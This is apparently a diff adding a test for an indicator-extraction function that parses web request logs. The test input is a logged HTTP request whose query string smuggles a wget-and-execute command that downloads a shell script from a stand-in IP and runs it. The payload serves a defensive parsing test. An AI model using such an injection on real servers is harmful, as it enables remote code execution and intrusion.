@@ -72,3 +72,12 @@ test("base64 runs are what the regex /[A-Za-z0-9+/]{16,}={0,2}/g finds, on rando
       JSON.stringify(t),
     );
 });
+
+test("a form's '+' is a space: the URL a command fetched is named once, without what followed it", () => {
+  const ind = indicatorsOf(
+    "GET /index.php?s=x&vars[1][]=wget+http://192.0.2.210/x.sh+-O+/tmp/x;sh+/tmp/x HTTP/1.1",
+    "198.51.100.1",
+  );
+  assert.deepEqual(ind.urls, ["http://192.0.2.210/x.sh"]);
+  assert.ok(ind.files.includes("x.sh") && ind.files.includes("x"), JSON.stringify(ind));
+});
